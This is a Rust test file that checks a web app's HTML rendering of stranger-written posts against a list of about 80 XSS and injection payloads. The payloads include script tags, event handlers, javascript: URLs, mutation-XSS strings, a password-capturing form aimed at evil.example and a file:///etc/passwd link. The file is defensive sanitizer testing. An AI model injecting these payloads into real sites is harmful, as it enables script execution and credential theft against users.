//! What strangers write stays words: payloads that run, load or leave their box elsewhere are drawn in
//! every place a post has, parsed as a browser would, and found to be nothing but our own elements.

use std::collections::HashSet;

use model::{Locale, Theme};
use proptest::prelude::*;

use crate::{
    kit::post::{self, Place},
    outline::elements,
    samples,
};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<script>alert(1)//",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src='x'/onerror='alert(1)'>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "https://user:pass@evil.example/",
    "//evil.example/x",
    "https:evil.example",
    "http://[::1",
    "https://evil.example/\"onclick=\"alert(1)",
    "https://evil.example/'><script>alert(1)</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x)\">",
    "<form action=https://evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)>",
    "<vigie-live src=https://evil.example></vigie-live>",
    "<p class=\"toast\" id=\"content\">Votre session a expiré</p>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{fdd0}b\u{fdd1}<b>x</b>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u{202e}tpircs\u{202c}<script>",
    "a\u{200b}\u{200b}\u{2060}\u{feff}b",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}",
    "é",
    "👨‍👩‍👧",
    "",
];

/// All that a post can be made of.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "body",
    "article",
    "span",
    "svg",
    "use",
    "div",
    "b",
    "bdi",
    "a",
    "time",
    "p",
    "mark",
    "details",
    "summary",
    "img",
    "blockquote",
    "h3",
    "ul",
    "li",
    "rect",
    "button",
];
const ATTRIBUTES: &[&str] = &[
    "class",
    "tabindex",
    "aria-labelledby",
    "aria-hidden",
    "aria-label",
    "data-post",
    "data-seq",
    "data-age",
    "id",
    "href",
    "rel",
    "target",
    "datetime",
    "title",
    "lang",
    "dir",
    "role",
    "src",
    "alt",
    "loading",
    "decoding",
    "width",
    "height",
    "hidden",
    "type",
    "viewBox",
    "viewbox",
    "preserveAspectRatio",
    "preserveaspectratio",
    "data-picture",
    "data-author",
    "data-tags",
    "data-dialog",
];

/// The column that payloads are drawn in.
const COLUMN: &str = "col_00000000000000000000000000000001";
/// Pages of ours that a post leads to.
const OURS: [&str; 4] = ["/columns/col_", "/columns/new?", "/lists/add?", "/assets/"];

#[test]
fn corpus_is_drawn_as_words_in_every_place() {
    assert!(PAYLOADS.len() >= 60);
    let (names, attributes): (HashSet<&str>, HashSet<&str>) = (
        ELEMENTS.iter().copied().collect(),
        ATTRIBUTES.iter().copied().collect(),
    );
    let cx = samples::cx(Locale::Fr, Theme::Light);
    for payload in PAYLOADS {
        for kind in [
            model::PostKind::Article,
            samples::said_by_a_stranger(payload).post.kind,
        ] {
            let mut mention = samples::said_by_a_stranger(payload);
            mention.post.kind = kind;
            let html = post::mention(
                &cx,
                &mention,
                Place {
                    column: COLUMN,
                    is_new: false,
                    seam: None,
                },
            )
            .into_string();
            for element in elements(&html) {
                assert!(
                    names.contains(element.name.as_str()),
                    "{payload}: <{}> in {html}",
                    element.name
                );
                for (attribute, value) in &element.attributes {
                    assert!(
                        attributes.contains(attribute.as_str()),
                        "{payload}: {attribute}={value} in {html}"
                    );
                    check_address(payload, &element.name, attribute, value);
                }
                let is_outside =
                    element.name == "a" && !is_ours(element.attribute("href").unwrap_or_default());
                assert!(
                    !is_outside
                        || element.attribute("rel") == Some("noopener noreferrer nofollow ugc"),
                    "{payload}"
                );
            }
            assert_eq!(
                elements(&html)
                    .iter()
                    .filter(|it| it.name == "article")
                    .count(),
                1,
                "{payload}: left its box"
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::default())]

    /// Pieces of markup in any order, between any characters.
    #[test]
    fn anything_is_drawn_as_words(parts in prop::collection::vec(
        prop_oneof![
            any::<String>(),
            prop::sample::select(vec!["<", ">", "\"", "'", "&lt;", "<script>", "</p>", "<!--", "]]>", "</article>", "https://", "javascript:", "\u{202e}", "\u{0}", "<svg><style>", "</bdi>"]).prop_map(str::to_owned),
        ],
        0..12,
    )) {
        let text = parts.concat();
        let cx = samples::cx(Locale::En, Theme::Light);
        let mention = samples::said_by_a_stranger(&text);
        let html = post::mention(&cx, &mention, Place { column: COLUMN, is_new: false, seam: None }).into_string();
        let all = elements(&html);
        prop_assert!(all.iter().all(|it| ELEMENTS.contains(&it.name.as_str())), "{html}");
        prop_assert!(all.iter().flat_map(|it| &it.attributes).all(|(it, _)| ATTRIBUTES.contains(&it.as_str())), "{html}");
        prop_assert_eq!(all.iter().filter(|it| it.name == "article").count(), 1);
        for element in &all {
            for (attribute, value) in &element.attributes {
                check_address(&text, &element.name, attribute, value);
            }
        }
    }
}

fn is_ours(href: &str) -> bool {
    OURS.iter().any(|it| href.starts_with(it))
}

/// Links go to the web and say so, or to pages of ours; pictures and drawings come from us.
fn check_address(payload: &str, element: &str, attribute: &str, value: &str) {
    match (element, attribute) {
        ("a", "href") if is_ours(value) => {
            assert!(!value.contains(['"', '<', '\'', ' ']), "{payload}: {value}");
        }
        ("a", "href") => {
            assert!(
                value.starts_with("https://") || value.starts_with("http://"),
                "{payload}: {value}"
            );
            assert!(
                !value.contains('@') || !value.contains("user:pass"),
                "{payload}: {value}"
            );
        }
        ("img", "src") | ("use", "href") | (_, "data-picture") => {
            assert!(value.starts_with("/assets/"), "{payload}: {value}");
        }
        _ => {}
    }
}

#[test]
fn names_in_sentences_and_attributes_are_words_too() {
    let cx = samples::cx(Locale::En, Theme::Light);
    for payload in PAYLOADS {
        let mut board = samples::board();
        board.columns.truncate(1);
        (*payload).clone_into(&mut board.columns[0].title);
        (*payload).clone_into(&mut board.columns[0].query_text);
        board.troubles[0].name = (*payload).to_owned();
        board.name = (*payload).to_owned();
        let view = crate::pages::listen::Listen {
            board: &board,
            done: None,
        };
        let html = crate::pages::listen::page(&cx, &view).into_string();
        let all = elements(&html);
        for element in &all {
            assert!(
                !element
                    .attributes
                    .iter()
                    .any(|(it, _)| it.starts_with("on")),
                "{payload}"
            );
            if element.name == "script" {
                assert_eq!(element.attribute("nonce"), Some("sample"), "{payload}");
            }
        }
        let n = |name: &str| all.iter().filter(|it| it.name == name).count();
        assert_eq!(
            (n("script"), n("iframe"), n("base"), n("object"), n("main")),
            (1, 0, 0, 0, 1),
            "{payload}"
        );
    }
}
